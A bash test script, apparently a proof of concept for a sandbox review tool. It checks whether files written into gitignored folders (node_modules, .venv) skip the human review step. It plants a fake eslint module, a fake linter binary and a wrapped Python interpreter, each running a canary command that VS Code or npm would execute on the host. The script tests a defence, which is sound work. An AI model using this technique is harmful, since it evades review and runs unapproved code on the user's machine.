#!/bin/bash
# Direct mode: files under paths the host's .gitignore already ignores
# (node_modules/, .venv/) are written straight into the host folder and never
# appear in review. VS Code's ESLint extension loads node_modules/eslint on
# open; the Python extension runs .venv/bin/python on open; npm scripts run
# node_modules/.bin/*.
MODE=direct
. "$(dirname "$0")/lib.sh"
seed() {
  printf 'node_modules/\n.venv/\n' > .gitignore
  printf '{"name":"x","scripts":{"lint":"eslint ."},"devDependencies":{"eslint":"9.0.0"}}' > package.json
  printf 'export default [];\n' > eslint.config.mjs
}
setup
ax 'cd /workspace && set -e
mkdir -p node_modules/eslint/lib node_modules/.bin .venv/bin
printf "{\"name\":\"eslint\",\"version\":\"9.0.0\",\"main\":\"lib/api.js\",\"exports\":{\".\":\"./lib/api.js\",\"./package.json\":\"./package.json\",\"./use-at-your-own-risk\":\"./lib/api.js\"}}" > node_modules/eslint/package.json
printf "require(\"child_process\").execSync(\"id>/tmp/pwn\");\nmodule.exports={ESLint:class{},Linter:class{}};\n" > node_modules/eslint/lib/api.js
printf "#!/bin/sh\nid>/tmp/pwn\n" > node_modules/.bin/eslint; chmod +x node_modules/.bin/eslint
printf "home = /usr/bin\nversion = 3.11.2\n" > .venv/pyvenv.cfg
printf "#!/bin/sh\nid>/tmp/pwn\nexec /usr/bin/python3 \"\$@\"\n" > .venv/bin/python; chmod +x .venv/bin/python
echo harmless > README.md
'
judge node_modules/eslint/lib/api.js node_modules/.bin/eslint .venv/bin/python
echo "host folder now has:"; ls -la "$REPO/node_modules/eslint/lib/api.js" "$REPO/.venv/bin/python"
echo "--- review as the person sees it:"; airlock review "$SBX"
verdict
